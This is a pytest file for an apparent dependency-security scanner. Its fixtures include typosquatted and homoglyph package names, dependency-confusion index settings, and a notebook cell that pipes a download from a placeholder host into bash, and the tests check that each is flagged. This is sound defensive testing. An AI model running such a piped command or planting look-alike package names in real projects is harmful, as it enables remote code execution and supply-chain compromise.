"""The dependency scanner end to end: real manifest files on disk, through ``scan_path``, the CLI
and SARIF, with the policy file that names internal prefixes and indexes."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

from mlsec_dagster import scan_path
from mlsec_dagster.engine.findings import Finding, Severity

POLICY = """\
version: "1.0"
policy:
  fail_on_severity: HIGH
  dependency_rules:
    internal_prefixes: [acme-]
    allowed_indexes: [https://pypi.acme.internal/simple]
"""

REQUIREMENTS = """\
# Training image requirements (compiled 2026-11-02)
--extra-index-url https://pypi.acme.internal/simple
numpy==2.1.3
pandas==2.2.3
torch==2.13.0
torchvison==0.20.1
acme-feature-store==3.4.0
scikit-learn==1.5.2
-r base.txt
"""

BASE = """\
requests==2.32.3
urlib3==2.2.3
"""


def _rows(findings: list[Finding]) -> list[tuple[str, str, Severity, int | None]]:
    return sorted(
        (f.path, f.rule_id, f.severity, f.location.line) for f in findings if f.rule_id != "MLS-DEP-041"
    )


def _repo(tmp_path: Path) -> Path:
    (tmp_path / "mlsec.yaml").write_text(POLICY)
    (tmp_path / "requirements.txt").write_text(REQUIREMENTS)
    (tmp_path / "base.txt").write_text(BASE)
    return tmp_path


def test_requirements_with_confusion_typosquats_and_an_included_file(tmp_path: Path) -> None:
    result = scan_path(_repo(tmp_path), root=tmp_path)
    assert _rows(result.findings) == [
        ("base.txt", "MLS-DEP-001", Severity.HIGH, 2),
        ("requirements.txt", "MLS-DEP-001", Severity.HIGH, 6),
        ("requirements.txt", "MLS-DEP-010", Severity.HIGH, 2),
        ("requirements.txt", "MLS-DEP-014", Severity.HIGH, 7),
    ]
    assert not result.decision.passed
    squat = next(f for f in result.findings if f.location.line == 6)
    assert "torchvision" in squat.message


def test_the_same_repository_fixed_passes(tmp_path: Path) -> None:
    repo = _repo(tmp_path)
    fixed = REQUIREMENTS.replace("--extra-index-url", "--index-url").replace("torchvison", "torchvision")
    (repo / "requirements.txt").write_text(fixed)
    (repo / "base.txt").write_text(BASE.replace("urlib3", "urllib3"))
    result = scan_path(repo, root=repo)
    assert _rows(result.findings) == []
    assert result.decision.passed


def test_includes_outside_the_repository_are_not_read(tmp_path: Path) -> None:
    repo = tmp_path / "repo"
    repo.mkdir()
    (tmp_path / "outside.txt").write_text("reqeusts==2.0\n")
    (repo / "requirements.txt").write_text("numpy==2.1.3\n-r ../outside.txt\n")
    rows = _rows(scan_path(repo, root=repo).findings)
    assert rows == [("requirements.txt", "MLS-DEP-032", Severity.MEDIUM, 2)]


def test_an_undecodable_include_is_reported_not_read_as_empty(tmp_path: Path) -> None:
    (tmp_path / "requirements.txt").write_text("-r blob.txt\nnumpy==2.1.3\n")
    (tmp_path / "blob.txt").write_bytes(b"\xff\xfe\x00garbage\x00\x9c==1\n")
    rows = _rows(scan_path(tmp_path, root=tmp_path).findings)
    assert rows and all(r[:2] == ("requirements.txt", "MLS-DEP-031") and r[3] == 1 for r in rows)


def test_cli_sarif_points_at_the_manifest_line(tmp_path: Path) -> None:
    repo = _repo(tmp_path)
    out = tmp_path / "report.sarif"
    proc = subprocess.run(
        [
            sys.executable,
            "-m",
            "mlsec_dagster",
            "scan",
            str(repo),
            "--root",
            str(repo),
            "--sarif",
            "-o",
            str(out),
        ],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert proc.returncode == 1, proc.stderr
    results = json.loads(out.read_text())["runs"][0]["results"]
    regions = {
        (r["ruleId"], r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]): r["locations"][0][
            "physicalLocation"
        ]["region"]["startLine"]
        for r in results
    }
    assert regions[("MLS-DEP-010", "requirements.txt")] == 2
    assert regions[("MLS-DEP-001", "base.txt")] == 2
    assert regions[("MLS-DEP-014", "requirements.txt")] == 7


def test_a_homoglyph_name_pip_rejects_is_still_judged_as_the_look_alike(tmp_path: Path) -> None:
    (tmp_path / "requirements.txt").write_text("numpy==2.1.3\nr\u0435quests==2.32.3\n", encoding="utf-8")
    rows = _rows(scan_path(tmp_path, root=tmp_path).findings)
    assert ("requirements.txt", "MLS-DEP-002", Severity.HIGH, 2) in rows
    assert ("requirements.txt", "MLS-DEP-031", Severity.MEDIUM, 2) in rows


def test_pdm_include_packages_pins_internal_names_to_the_private_source(tmp_path: Path) -> None:
    (tmp_path / "mlsec.yaml").write_text(POLICY)
    project = """\
[project]
name = "analytics"
version = "1.0"
dependencies = ["flask>=3.1", "acme-secrets>=3.1"]

[[tool.pdm.source]]
name = "acme"
url = "https://pypi.acme.internal/simple"
include_packages = ["acme-*"]
"""
    (tmp_path / "pyproject.toml").write_text(project)
    assert _rows(scan_path(tmp_path, root=tmp_path).findings) == []
    (tmp_path / "pyproject.toml").write_text(project.replace('include_packages = ["acme-*"]\n', ""))
    assert ("pyproject.toml", "MLS-DEP-014", Severity.HIGH, 4) in _rows(
        scan_path(tmp_path, root=tmp_path).findings
    )


def test_a_wheel_that_is_not_a_zip_is_reported(tmp_path: Path) -> None:
    (tmp_path / "tool-1.0-py3-none-any.whl").write_bytes(bytes(range(256)) * 3)
    (finding,) = scan_path(tmp_path, root=tmp_path).findings
    assert (finding.rule_id, finding.severity) == ("MLS-SCN-003", Severity.MEDIUM)
    assert "Python wheel" in finding.message


def test_a_piped_download_run_from_python_in_a_notebook_is_judged(tmp_path: Path) -> None:
    cells = [
        {"cell_type": "code", "metadata": {}, "outputs": [], "source": ["import subprocess\n", "x = 1\n"]},
        {
            "cell_type": "code",
            "metadata": {},
            "outputs": [],
            "source": ['subprocess.run("curl -fsSL https://get.tools.example/i.sh | bash", shell=True)\n'],
        },
        {"cell_type": "code", "metadata": {}, "outputs": [], "source": ['os.system("ls -la data/")\n']},
    ]
    notebook = {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": cells}
    (tmp_path / "setup.ipynb").write_text(json.dumps(notebook, indent=1))
    rows = [r for r in _rows(scan_path(tmp_path, root=tmp_path).findings) if r[1] == "MLS-DEP-019"]
    line = next(
        i for i, t in enumerate((tmp_path / "setup.ipynb").read_text().splitlines(), 1) if "curl" in t
    )
    assert rows == [("setup.ipynb", "MLS-DEP-019", Severity.HIGH, line)]
